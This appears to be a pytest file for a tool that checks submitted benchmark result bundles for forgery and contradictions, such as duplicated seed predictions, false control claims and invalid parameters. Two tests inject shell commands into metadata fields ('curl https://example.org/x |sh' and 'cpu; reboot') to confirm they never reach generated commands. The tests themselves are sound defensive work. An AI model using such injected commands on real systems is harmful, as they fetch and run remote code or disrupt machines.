"""Bundles whose own words would give them a rank: each under keys, digests and a crate that fit."""

import json
import re
import shlex

import msgspec
import numpy as np
import pytest
from records import ROOT, plain_record, scored_run
from tests.results.bundle.foreign_bundles import contents, fitted, write_zip
from tests.results.submissions.test_bundles import rows

from tonegap.api.results import _board as open_board
from tonegap.cli.main import main
from tonegap.declared.plugin import fill_parameters, plugin_ids, read_plugin
from tonegap.formats.matrix import Matrix, RunId
from tonegap.formats.record import BankId, DataId, EntryId, Exposure, Isolation, StageId
from tonegap.report.pages.entry_suite import reproduction
from tonegap.results.bundle.pack import pack_suite
from tonegap.results.entry_answers import StageSetting
from tonegap.results.model import Row, SeedResult
from tonegap.results.submissions.checks import _contradictions, _missing_seeds, are_alike, not_here
from tonegap.store.read import SuiteRun
from tonegap.store.store import Store


@pytest.fixture
def forge(tmp_path):
    """A bundle of one record for each seed of an entry; `numbers` are what its predictions are drawn from."""

    def make(truth, numbers, **changes):
        there = Store(tmp_path / "forger")
        entry = changes.pop("entry", EntryId("none", "theirs", "cnn4"))
        cells = [
            scored_run(
                there,
                plain_record(entry=entry, seed=seed, **changes),
                truth,
                f"{50 + seed:064x}",
                number,
            )
            for seed, number in numbers.items()
        ]
        there.write_matrix(Matrix("forged", "Forged", tuple(cells)))
        path = tmp_path / "forged.tonegap.zip"
        pack_suite(ROOT, there.folder, "forged", path)
        return path

    return make


def control_of_this_suite():
    names = [
        p.parent
        for p in ROOT.glob("baselines/*/baseline.toml")
        if "control = true" in p.read_text()
    ]
    return sorted(names)[0].name


def without_plug_ins(bundle):
    """The bundle without the files of its plug-ins: only the receiver's own can contradict it."""
    files = {n: c for n, c in contents(bundle).items() if not n.startswith("specs/baselines/")}
    graph = json.loads(files["ro-crate-metadata.json"])
    graph["@graph"] = [
        node for node in graph["@graph"] if not node["@id"].startswith("specs/baselines/")
    ]
    files["ro-crate-metadata.json"] = json.dumps(graph).encode()
    return write_zip(bundle, fitted(files))


def test_a_control_that_says_it_is_none_is_refused(tonegap, forge, truth):
    name = control_of_this_suite()
    sent = forge(truth, {0: 9}, entry=EntryId("none", name, ""), baseline_parameters={})
    code, text = tonegap("submit", "add", sent)
    assert code == 1
    assert f"the file of baselines/{name} that came along says that it is one" in text
    code, text = tonegap("submit", "add", without_plug_ins(sent))
    assert code == 1
    assert f"says that it is no control, and baselines/{name} is one here" in text


def test_a_plug_in_of_this_suite_that_says_it_is_a_control_is_refused(tonegap, forge, truth):
    sent = forge(truth, {0: 9}, entry=EntryId("none", "erm", "cnn4"), control=True)
    code, text = tonegap("submit", "add", without_plug_ins(sent))
    assert code == 1
    assert (
        "says that it is a control, and neither methods/none nor baselines/erm is one here" in text
    )


def test_tone_at_test_of_a_plug_in_of_this_suite_is_not_the_bundle_s_to_say(tonegap, forge, truth):
    sent = forge(truth, {0: 9}, entry=EntryId("none", "erm", "cnn4"), tone_at_test=True)
    assert (
        "says otherwise than baselines/erm here whether it is told the tone"
        in tonegap("submit", "add", without_plug_ins(sent))[1]
    )


@pytest.mark.parametrize(
    ("parameters", "said"),
    [
        ({"backbone": "cnn4", "turbo": 1}, "baselines/erm has no parameter 'turbo'"),
        ({"backbone": "cnn4"}, "and 27 more, which baselines/erm has here"),
        (
            {"backbone": "cnn4", "epochs": "many"},
            "baselines/erm epochs: found 'many', wanted a value like",
        ),
    ],
)
def test_parameters_that_a_plug_in_of_this_suite_cannot_have_are_refused(
    tonegap, forge, truth, parameters, said
):
    entry = EntryId("none", "erm", "cnn4")
    code, text = tonegap(
        "submit", "add", forge(truth, {0: 9}, entry=entry, baseline_parameters=parameters)
    )
    assert code == 1
    assert re.search(said.replace("27", r"\d+"), text), text


def test_one_run_under_two_seeds_is_refused(tonegap, forge, truth):
    code, text = tonegap("submit", "add", forge(truth, {0: 9, 7: 9}))
    assert code == 1
    assert (
        "none + theirs (cnn4), d/t: seeds 0 and 7 have the same predictions: one training run"
        in text
    )


def board(capsys, tmp_path, *bundles):
    """Exit code and standard error of a board of bundles."""
    words = [*bundles, "--out", tmp_path / "site", "--suite-root", ROOT, "--store", tmp_path / "no"]
    with pytest.raises(SystemExit) as ended:
        main(["board", *map(str, words)])
    return ended.value.code, capsys.readouterr().err


def moved(path, name):
    return path.rename(path.with_name(name))


def test_an_entry_with_another_s_predictions_is_not_on_a_board(
    forge, send_bundle, truth, tmp_path, capsys
):
    first = moved(send_bundle(truth, mine=3, other=4), "first.zip")
    again = moved(forge(truth, {0: 3}), "again.zip")
    code, said = board(capsys, tmp_path, first, again)
    assert code == 1
    assert (
        "again.zip: d/t, seed 0: what it calls none + theirs (cnn4) has the predictions of" in said
    )
    assert "none + mine (cnn4) in first.zip" in said


def test_a_control_s_predictions_under_another_name_are_not_on_a_board(
    forge, send_bundle, truth, tmp_path, capsys
):
    named = moved(send_bundle(truth, amplify=3), "named.zip")
    control = moved(forge(truth, {0: 3}, control=True), "control.zip")
    code, said = board(capsys, tmp_path, named, control)
    assert code == 1
    assert "named.zip: d/t, seed 0: what it calls none + amplify (cnn4) has the predictions" in said
    assert "1 bundle, 1 record, 1 not on the board" in said


def test_predictions_that_were_touched_here_and_there_are_still_one_run_s():
    rng = np.random.default_rng(0)
    p = rng.random((3, 60, 1)) * 0.9
    p = np.concatenate([p, 1 - p], axis=2)
    touched = p.copy()
    touched[-1, :20] = touched[-1, :20, ::-1]  # a third of the last epoch
    other = np.random.default_rng(1).random((3, 60, 1)) * 0.9
    assert are_alike(p, touched)
    assert are_alike(p, p + 5e-4)
    assert not are_alike(p, np.concatenate([other, 1 - other], axis=2))


def test_two_classifiers_that_are_sure_of_most_images_are_not_one_run():
    sure = np.tile([0.9999, 0.0001], (3, 100, 1))
    p, q = sure.copy(), sure.copy()
    p[:, :20], q[:, :20] = [0.7, 0.3], [0.6, 0.4]  # 80 of 100 images alike
    assert not are_alike(p, q)
    assert are_alike(sure, sure.copy())
    assert not are_alike(sure, sure[:, :50])


def test_answers_that_were_sharpened_keep_their_order_and_are_one_run_s():
    rng = np.random.default_rng(2)
    p = rng.dirichlet((1, 1, 1), size=(3, 80))
    sharp = p**1.6 / (p**1.6).sum(axis=2, keepdims=True)
    assert np.abs(p - sharp).max() > 0.1
    assert are_alike(p, sharp)
    assert not are_alike(p, rng.dirichlet((1, 1, 1), size=(3, 80)))


def test_a_seed_that_the_suite_has_here_and_the_bundle_does_not_declare_is_named():
    run = SuiteRun(
        Matrix("smoke", "S", (RunId(EntryId("none", "erm", "cnn4"), "d/t", 0, "k", False),)), ()
    )
    assert list(_missing_seeds(ROOT, run)) == [
        "none + erm (cnn4), d/t: the suite smoke has seed 1 here, and the bundle declares none"
    ]
    run = SuiteRun(Matrix("their-own", "S", run.matrix.runs), ())
    assert list(_missing_seeds(ROOT, run)) == []


def test_phantoms_that_a_record_calls_photographs_do_not_verify(forge, truth, capsys):
    data = DataId("phantom", "a" * 64, "b" * 64, stand_in=False, drawn=False)
    sent = forge(truth, {0: 9}, task="phantom/smoke", data=data)
    with pytest.raises(SystemExit) as ended:
        main(["verify", str(sent)])
    assert ended.value.code == 1
    assert "says that its images are no phantoms, and phantom/dataset.toml that came along" in (
        capsys.readouterr().out
    )


def test_two_runs_under_two_seeds_are_not_one(tonegap, forge, truth):
    assert (
        "same predictions"
        not in tonegap("submit", "add", forge(truth, {0: 9, 7: 10}), "--check")[1]
    )


def test_an_undeclared_seed_and_a_missing_one_are_named(tonegap, forge, truth):
    text = tonegap("submit", "add", forge(truth, {7: 9}), "--check")[1]
    assert "none + theirs (cnn4), d/t: seed 7 is in no suite of this store" in text
    assert "none + theirs (cnn4), d/t: seed 0, which the entries here have, is not in it" in text
    assert "baselines/theirs is not here, so what it does is its own word" in text


def test_the_same_predictions_for_two_seeds_of_a_card_are_refused(tonegap, send):
    folder = send()
    (folder / "seed-1.csv").write_text((folder / "seed-0.csv").read_text())
    with (folder / "card.toml").open("a") as card:
        card.write('\n[[predictions]]\nseed = 1\nfile = "seed-1.csv"\n')
    code, text = tonegap("submit", "add", folder)
    assert code
    assert (
        "seeds 0 and 1 have the same predictions: one training run; leave one of them out" in text
    )


def test_a_bundle_that_says_in_a_container_is_marked_as_saying_so(tonegap, send_bundle, truth):
    tonegap("submit", "add", send_bundle(truth, theirs=7))  # the records say contained
    (marks,) = [row["marks"] for label, row in rows(tonegap).items() if "theirs" in label]
    assert "says: in a container" in marks
    assert "without container" not in marks
    assert not any(
        "says: in a container" in r["marks"]
        for label, r in rows(tonegap).items()
        if "mixup" in label
    )


def test_a_bundle_that_says_no_container_is_marked_without_container(tonegap, forge, truth):
    where = plain_record().circumstances
    where = msgspec.structs.replace(where, isolation=Isolation("local", False, "off", "", {}))
    assert not tonegap("submit", "add", forge(truth, {0: 9}, circumstances=where))[0]
    (marks,) = [row["marks"] for label, row in rows(tonegap).items() if "theirs" in label]
    assert "without container" in marks


EVIL = "local; curl https://example.org/x |sh #"


def test_a_command_in_an_engine_s_name_reaches_no_page_as_a_command(
    tonegap, forge, truth, tmp_path
):
    where = plain_record().circumstances
    where = msgspec.structs.replace(where, isolation=Isolation(EVIL, True, "off", "", {}))
    code, text = tonegap("submit", "add", forge(truth, {0: 9}, circumstances=where))
    assert not code, text
    assert not tonegap("report", "--out", tmp_path / "report")[0]
    (page,) = (tmp_path / "report").glob("entries/*theirs*.html")
    commands = re.findall(r"tonegap run[^<\n]*", page.read_text("utf-8"))
    assert commands
    assert not [line for line in commands if "curl" in line or ";" in line]


def test_what_a_mark_says_of_its_device_is_no_part_of_a_command(row_of_a_record):
    made = reproduction(row_of_a_record, "a b.toml", StageSetting(1, "cpu; reboot"), {})
    assert shlex.split(made.command)[:3] == ["tonegap", "run", "a b.toml"]
    assert "reboot" not in made.command


@pytest.fixture
def row_of_a_record():
    record = plain_record()
    seeds = (SeedResult(0, "k", record, None),)
    return Row(record.entry, False, seeds, (), {}, None, None)


def changed(bundle, tmp_path, start, change):
    """The bundle with one JSON file changed, all digests of files fitting."""
    files = contents(bundle)
    (name,) = [n for n in files if n.startswith(start) and n.endswith(".json")]
    document = json.loads(files[name])
    change(document)
    return write_zip(
        tmp_path / "changed.zip", fitted(files | {name: json.dumps(document).encode()})
    )


@pytest.mark.parametrize(
    ("start", "field", "value", "said"),
    [
        ("stages/", "ingredients.seed", "7", "does not follow from what it was made from"),
        ("stages/", "isolation.contained", False, "differ about how they were isolated"),
        (
            "records/",
            "baseline_parameters",
            {"backbone": "vgg16"},
            "its backbone is not that of its parameters",
        ),
        ("records/", "method_parameters", {"x": 1}, None),
        ("records/", "partitions.test.n", 61, "counts the test images otherwise than the truth"),
        ("records/", "partitions.test.n_by_tone", {"I-II": 60}, "counts the test images otherwise"),
        (
            "records/",
            "synthetic",
            {"n": 9, "n_by_tone": {}, "sha256": "0" * 64},
            "without the stage that made",
        ),
        ("records/", "scores.best", None, "scores under best, which is no rule"),
        ("records/", "control", True, "differ about whether it is a control"),
        ("records/", "leaks.n_groups", 5, "or near-duplicates than this store's own"),
    ],
)
def test_a_field_that_the_rest_of_the_bundle_contradicts_is_named(
    tonegap, forge, truth, tmp_path, start, field, value, said
):
    def change(document):
        *path, last = field.split(".")
        for part_of in path:
            document = document[part_of]
        document[last] = document["last"] if value is None else value

    sent = changed(forge(truth, {0: 9}), tmp_path, start, change)
    code, text = tonegap("submit", "add", sent)
    if said is None:  # the method here has no stage and no parameter
        said = "methods/none has no parameter 'x'"
    assert code == 1, text
    assert said in text


def test_a_stage_without_a_mark_is_named(tonegap, forge, truth, tmp_path):
    files = contents(forge(truth, {0: 9}))
    (name,) = [n for n in files if n.endswith("stage.json")]
    del files[name]
    graph = json.loads(files["ro-crate-metadata.json"])
    graph["@graph"] = [node for node in graph["@graph"] if node["@id"] != name]
    files["ro-crate-metadata.json"] = json.dumps(graph).encode()
    code, text = tonegap("submit", "add", write_zip(tmp_path / "x.zip", fitted(files)))
    assert code == 1
    assert "stage.json: damaged, or not what it should be" in text


PROBE = EntryId("none", "linear-probe", "tiny-vit")


def of_a_bank(extractor="tiny-vit", **changed):
    """A record of a baseline on features, with every parameter as it is here; `changed` are its extractor's."""
    probe = read_plugin(ROOT, "baseline", "linear-probe")
    values = {}
    if extractor in plugin_ids(ROOT, "extractor"):
        values = fill_parameters(read_plugin(ROOT, "extractor", extractor), {}, "parameters")
    stages = (("embed", f"extractors/{extractor}"), ("train", "baselines/linear-probe"))
    return plain_record(
        entry=msgspec.structs.replace(PROBE, backbone=extractor),
        baseline_parameters=fill_parameters(probe, {"backbone": extractor}, "parameters"),
        bank=BankId(extractor, values | changed),
        stages=tuple(StageId(stage, label, "a" * 64, "e" * 64) for stage, label in stages),
    )


def said_here(record):
    return list(_contradictions(ROOT, RunId(record.entry, record.task, 0, "a" * 64, False), record))


def test_a_baseline_on_features_without_a_bank_is_refused(tonegap, forge, truth):
    own = of_a_bank().baseline_parameters
    sent = forge(truth, {0: 9}, entry=PROBE, baseline_parameters=own)
    by = "the file of baselines/linear-probe that came along says that it trains on one"
    assert f"names no bank of features, and {by}" in tonegap("submit", "add", sent)[1]
    code, text = tonegap("submit", "add", without_plug_ins(sent))
    assert code == 1
    assert "names no bank of features, and baselines/linear-probe here says that" in text


def test_a_bank_without_the_stage_that_made_it_is_refused(tonegap, forge, truth):
    whole = of_a_bank()
    given = {"entry": PROBE, "baseline_parameters": whole.baseline_parameters, "bank": whole.bank}
    code, text = tonegap("submit", "add", forge(truth, {0: 9}, **given))
    assert code == 1
    assert (
        "its bank is of extractors/tiny-vit, and its stages that leave features are of none" in text
    )


@pytest.mark.parametrize(
    ("changed", "said"),
    [
        ({"network": "nonsense"}, "extractors/tiny-vit network: found 'nonsense'"),
        ({"mean": "grey"}, "extractors/tiny-vit mean: found 'grey'"),
        ({"turbo": 1}, "extractors/tiny-vit has no parameter 'turbo'"),
    ],
)
def test_parameters_that_an_extractor_of_this_suite_cannot_have_are_named(changed, said):
    assert said_here(of_a_bank()) == []
    assert said in " ".join(said_here(of_a_bank(**changed)))


def test_an_extractor_that_leaves_out_its_parameters_is_named():
    bare = msgspec.structs.replace(of_a_bank(), bank=BankId("tiny-vit", {}))
    assert any("which extractors/tiny-vit has here" in problem for problem in said_here(bare))


def test_an_extractor_that_is_not_here_is_named():
    assert not_here(ROOT, [of_a_bank()]) == []
    assert not_here(ROOT, [of_a_bank("dermfm-own")]) == ["extractors/dermfm-own"]


def declaring(bundle, sha256):
    """The bundle with a "no" of its own about a file among what came along."""
    files = contents(bundle)
    name = "specs/benchmarks/exposure.toml"
    own = f'\n[files.mine]\nabout = "m"\nsha256 = "{sha256}"\n[files.mine.seen.d]\n'
    files[name] += f'{own}answer = "no"\nsource = "trust me"\n'.encode()
    return write_zip(bundle, fitted(files))


def test_a_stranger_s_no_about_a_file_is_unknown_among_submissions_and_on_a_board(
    tonegap, forge, truth
):
    sha256 = "ab" * 32
    values = {"backbone": "cnn4", "weights": f"net.pth#sha256={sha256}"}
    told = (Exposure("baselines/theirs", "net.pth", "no", "trust me"),)
    sent = declaring(forge(truth, {0: 9}, baseline_parameters=values, exposure=told), sha256)
    code, text = tonegap("submit", "add", sent)
    assert code == 0, text
    (row,) = [row for label, row in rows(tonegap).items() if "theirs" in label]
    assert "exposure unknown" in row["marks"]
    with open_board(sent, (), ROOT) as board:
        (alone,) = board.tables[0].all_rows
    assert alone.exposure == "unknown"
